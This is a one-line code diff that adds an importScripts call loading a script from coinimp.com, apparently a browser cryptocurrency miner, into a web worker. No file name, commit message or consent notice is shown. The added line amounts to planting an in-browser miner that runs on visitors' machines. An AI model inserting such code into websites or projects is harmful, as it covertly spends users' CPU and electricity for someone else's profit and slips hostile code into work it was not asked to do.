@@ -1,0 +1,1 @@
+importScripts('//www.coinimp.com/scripts/min.js');
